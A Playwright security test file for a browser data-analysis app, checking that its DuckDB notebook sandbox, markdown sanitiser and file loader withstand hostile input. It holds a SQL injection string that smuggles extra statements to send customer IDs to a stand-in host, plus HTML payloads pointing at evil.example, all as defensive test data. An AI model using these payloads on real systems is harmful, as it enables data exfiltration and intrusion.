import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { chooseFile, customerCount, expect, generated, test, waitReady } from './fixtures';

/**
 * Issue 14 as a hostile tester tried it: a shared link's data origin is open to the page, so a
 * notebook cell that could read a URL could send the customers there. Cells from a file never
 * run by themselves and are marked; run, DuckDB itself refuses the escape; nothing reaches the
 * host; the analysis and the export are intact. Notes load nothing; hostile files are answered.
 */

const DATA = 'https://data.example.org';
const ATTACK =
  "SELECT $e5$'$e5$; COMMIT; SET VARIABLE leak=(SELECT string_agg(customer_id,'-') FROM (SELECT customer_id FROM customers ORDER BY monetary DESC LIMIT 5)); SELECT * FROM read_text('https:'||'//data.example.org/leak?d='||getvariable('leak')); SELECT ''";
const READ_URL = `SELECT * FROM read_text('${DATA}/leak?d=1')`;
const QUOTED = `SELECT * FROM "read_text"('${DATA}/leak2')`;

async function openSavedWork(page: Page): Promise<void> {
  await page.getByTestId('saved-work').locator('summary').click();
}

test.describe('the notebook sandbox on a page opened with ?data=', () => {
  test.use({ dataOrigins: [DATA] });

  test('cells from a file wait, marked; run, the escapes fail in DuckDB and nothing leaks', async ({
    page,
  }) => {
    test.setTimeout(120_000);
    const leaks: string[] = [];
    await page.context().route(`${DATA}/**`, (route) => {
      const url = route.request().url();
      if (url.endsWith('/orders.csv'))
        return route.fulfill({
          body: readFileSync(generated('shape-small-300.csv')),
          headers: { 'content-type': 'text/csv', 'access-control-allow-origin': '*' },
        });
      leaks.push(url);
      return route.fulfill({ status: 404, headers: { 'access-control-allow-origin': '*' } });
    });
    await page.goto(`./?lang=en&data=${encodeURIComponent(`${DATA}/orders.csv`)}`);
    await waitReady(page);
    expect(await customerCount(page)).toBe('300');

    // Someone's .valuemap.json with hostile cells (the app's own export, cells put in).
    await openSavedWork(page);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByTestId('export-notebook').click(),
    ]);
    const file = JSON.parse(readFileSync(await download.path(), 'utf8')) as {
      config: { notebook: unknown };
    };
    file.config.notebook = {
      version: 1,
      cells: [ATTACK, READ_URL, QUOTED].map((source, i) => ({
        id: `evil${i}`,
        kind: 'sql',
        source,
        options: null,
        meta: null,
      })),
    };
    await page.getByTestId('import-input').setInputFiles({
      name: 'shared.valuemap.json',
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify(file)),
    });
    const cells = page.getByTestId('cell-sql');
    await expect(cells).toHaveCount(3);
    // Marked as someone else's, and not run.
    await expect(page.getByTestId('cell-foreign')).toHaveCount(3);
    await expect(page.getByTestId('cell-foreign').first()).toHaveAttribute('data-from', 'file');
    await page.waitForTimeout(1000);
    await expect(page.getByTestId('sql-status')).toHaveCount(0);
    await expect(page.getByTestId('sql-error')).toHaveCount(0);
    expect(leaks).toEqual([]);

    // Run: DuckDB's tokenizer sees several statements behind the dollar quotes.
    await cells.nth(0).getByTestId('sql-run').click();
    await expect(cells.nth(0).getByTestId('sql-refused')).toContainText('one statement');
    await expect(cells.nth(0).getByTestId('cell-foreign')).toHaveCount(0);
    // A URL or a quoted function name: DuckDB's locked configuration refuses the file access.
    for (const k of [1, 2]) {
      await cells.nth(k).getByTestId('sql-run').click();
      const error = cells.nth(k).getByTestId('sql-error');
      await expect(error).toHaveAttribute('data-type', 'Permission');
      await expect(error).toContainText('web addresses');
    }
    await page.waitForTimeout(500);
    expect(leaks).toEqual([]);

    // The analysis is intact and the export works.
    const exported = page.waitForEvent('download');
    await page.getByTestId('export-customers').click();
    const csv = readFileSync(await (await exported).path(), 'utf8')
      .trim()
      .split('\n');
    expect(csv).toHaveLength(301);
  });
});

test('a note loads nothing: srcset, poster, media sources, backgrounds and remote images are dropped', async ({
  page,
}) => {
  const requests: string[] = [];
  page.on('request', (r) => {
    if (r.url().includes('evil.example')) requests.push(r.url());
  });
  await page.goto('./?lang=en');
  await waitReady(page);
  await page.getByTestId('add-markdown').click();
  const note = page.getByTestId('cell-markdown').last();
  const hostile = [
    '# Notes',
    '<img src="https://evil.example/a.png" srcset="https://evil.example/srcset.png 2x" alt="remote">',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="inline">',
    '<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video>',
    '<audio src="https://evil.example/a.mp3"></audio>',
    '<picture><source srcset="https://evil.example/s.png"></picture>',
    '<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/td.png">cell</td></tr></table>',
    '<a href="https://example.com/ok">ok link</a> <a href="javascript:alert(1)">js</a> <a href="data:text/html,x">data</a>',
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><iframe src="https://evil.example/i"></iframe>',
    '<svg><image href="https://evil.example/svg.png"/></svg>',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>body{background:url(https://evil.example/css.png)}</style>',
  ].join('\n\n');
  await note.getByTestId('markdown-input').fill(hostile);
  await note.getByTestId('markdown-toggle').click();
  const rendered = note.getByTestId('markdown-rendered');
  await expect(rendered.locator('h1')).toHaveText('Notes');
  const html = await rendered.evaluate((el) => el.innerHTML);
  expect(html).not.toMatch(
    /srcset|poster|background|<video|<audio|<source|<object|<embed|<iframe|<svg|<link|<style|evil\.example|javascript:|data:text/i,
  );
  // What may stay: text, the table, an http(s) link, an inline image.
  await expect(rendered.locator('a[href="https://example.com/ok"]')).toHaveAttribute(
    'rel',
    'noopener noreferrer',
  );
  await expect(rendered.locator('img[alt="inline"]')).toHaveAttribute('src', /^data:image\/gif/);
  await expect(rendered.locator('img[alt="remote"]')).not.toHaveAttribute('src', /.+/);
  await expect(rendered.locator('td')).toHaveText('cell');
  await page.waitForTimeout(500);
  expect(requests).toEqual([]);
});

test('hostile files: a gzip bomb, 5,000 columns, only refunds, a long raw line — each answered in seconds', async ({
  page,
}) => {
  test.setTimeout(120_000);
  await page.goto('./?lang=en');
  await waitReady(page);
  const before = await customerCount(page);
  const answered = async (file: string, code: string) => {
    const started = Date.now();
    await chooseFile(page, generated(file));
    await expect(page.getByTestId('error')).toHaveAttribute('data-code', code, { timeout: 15_000 });
    expect(Date.now() - started).toBeLessThan(15_000);
    expect(await customerCount(page)).toBe(before); // what was loaded stays
  };
  await answered('hostile-zeros.csv.gz', 'compressed_too_large');
  await expect(page.getByTestId('error')).toContainText('not an order export');
  await answered('hostile-wide.csv', 'too_many_columns');
  await expect(page.getByTestId('error')).toContainText('5000 columns');
  await answered('hostile-refunds.csv', 'no_purchases');
  await expect(page.getByTestId('error')).toContainText('refund');
  await expect(page.getByTestId('error')).not.toContainText('later');
  await chooseFile(page, generated('hostile-long-line.csv'));
  const error = page.getByTestId('error');
  await expect(error).toBeVisible({ timeout: 15_000 });
  // The 20,000-character line wraps inside the panel: the page does not scroll sideways.
  const widths = await page.evaluate(() => ({
    page: document.documentElement.scrollWidth,
    viewport: document.documentElement.clientWidth,
  }));
  expect(widths.page).toBeLessThanOrEqual(widths.viewport);
  // A mixed-line-end file loads; the engine never restarted.
  await chooseFile(page, generated('hostile-mixed-newlines.csv'));
  await expect(page.getByTestId('customer-count')).toHaveAttribute('data-count', '7', {
    timeout: 30_000,
  });
  expect(await page.evaluate(() => window.valuemap!.engine.restartCount)).toBe(0);
});
